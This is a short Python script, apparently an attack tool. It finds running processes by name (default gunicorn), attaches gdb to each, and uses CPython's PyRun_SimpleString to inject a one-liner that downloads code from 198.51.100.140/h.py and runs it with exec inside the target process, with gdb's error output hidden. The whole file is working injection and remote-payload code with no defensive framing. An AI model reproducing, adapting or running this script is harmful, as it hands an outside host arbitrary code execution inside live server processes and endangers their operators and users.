import argparse
import shlex
import subprocess

import psutil

SNIPPET = "import urllib.request as u;exec(u.urlopen('http://198.51.100.140/h.py').read())"
GDB_CALLS = (
    "call (int)PyGILState_Ensure()",
    'call (int)PyRun_SimpleString("{code}")',
    "call (void)PyGILState_Release($1)",
)


def find(name: str):
    return [p.pid for p in psutil.process_iter(["cmdline"]) if name in " ".join(p.info["cmdline"] or [])]


def attach(pid: int) -> int:
    cmd = ["gdb", "-p", str(pid), "-batch"]
    for c in GDB_CALLS:
        cmd += ["-ex", c.format(code=SNIPPET)]
    print(shlex.join(cmd))
    return subprocess.call(cmd, stderr=subprocess.DEVNULL)


if __name__ == "__main__":
    a = argparse.ArgumentParser()
    a.add_argument("service", nargs="?", default="gunicorn")
    for pid in find(a.parse_args().service):
        attach(pid)
